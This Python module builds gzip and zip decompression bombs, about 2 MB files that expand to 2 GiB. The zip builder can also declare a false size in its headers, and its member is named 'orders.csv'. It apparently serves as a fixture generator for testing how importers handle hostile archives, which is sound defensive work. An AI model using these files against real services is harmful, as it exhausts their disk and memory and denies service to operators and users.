"""Decompression bombs built as streams: a 2 MB gzip or zip that expands to 2 GiB.

One megabyte of the filler is deflated once and ended with a full flush, which resets the
compressor's history, so the same compressed bytes can be written again and again; the CRC
is computed over the expanded stream chunk by chunk. Nothing large is ever held in memory.
"""

from __future__ import annotations

import struct
import zlib
from pathlib import Path

MIB = 1024 * 1024
GIB = 1024 * MIB


def _segment(filler: bytes) -> tuple[bytes, bytes, bytes]:
    """(compressed 1 MiB, the stream's end, the 1 MiB itself) of raw deflate."""
    block = (filler * (MIB // len(filler) + 1))[:MIB]
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    seg = co.compress(block) + co.flush(zlib.Z_FULL_FLUSH)
    return seg, co.flush(zlib.Z_FINISH), block


def _crc(block: bytes, count: int) -> int:
    crc = 0
    for _ in range(count):
        crc = zlib.crc32(block, crc)
    return crc


def gzip_bomb(path: Path, *, expanded: int = 2 * GIB, filler: bytes = b"\n") -> Path:
    """A gzip file of ``expanded`` bytes of ``filler`` (newlines: 2 GiB in about 2 MB)."""
    seg, end, block = _segment(filler)
    count = expanded // MIB
    with path.open("wb") as out:
        out.write(b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff")
        for _ in range(count):
            out.write(seg)
        out.write(end)
        out.write(struct.pack("<II", _crc(block, count), (count * MIB) & 0xFFFFFFFF))
    return path


def zip_bomb(
    path: Path,
    *,
    expanded: int = 2 * GIB,
    member: str = "orders.csv",
    declared: int | None = None,
    filler: bytes = b"\n",
) -> Path:
    """A zip holding one member of ``expanded`` bytes; ``declared`` makes its directory
    state another size (a zip that lies about what it holds)."""
    seg, end, block = _segment(filler)
    count = expanded // MIB
    crc = _crc(block, count)
    size = count * MIB if declared is None else declared
    packed = len(seg) * count + len(end)
    name = member.encode()
    with path.open("wb") as out:
        out.write(
            struct.pack(
                "<IHHHHHIIIHH",
                0x04034B50,
                20,
                0,
                8,
                0,
                0,
                crc,
                packed,
                size & 0xFFFFFFFF,
                len(name),
                0,
            )
            + name
        )
        for _ in range(count):
            out.write(seg)
        out.write(end)
        directory_at = out.tell()
        entry = (
            struct.pack(
                "<IHHHHHHIIIHHHHHII",
                0x02014B50,
                20,
                20,
                0,
                8,
                0,
                0,
                crc,
                packed,
                size & 0xFFFFFFFF,
                len(name),
                0,
                0,
                0,
                0,
                0,
                0,
            )
            + name
        )
        out.write(entry)
        out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(entry), directory_at, 0))
    return path
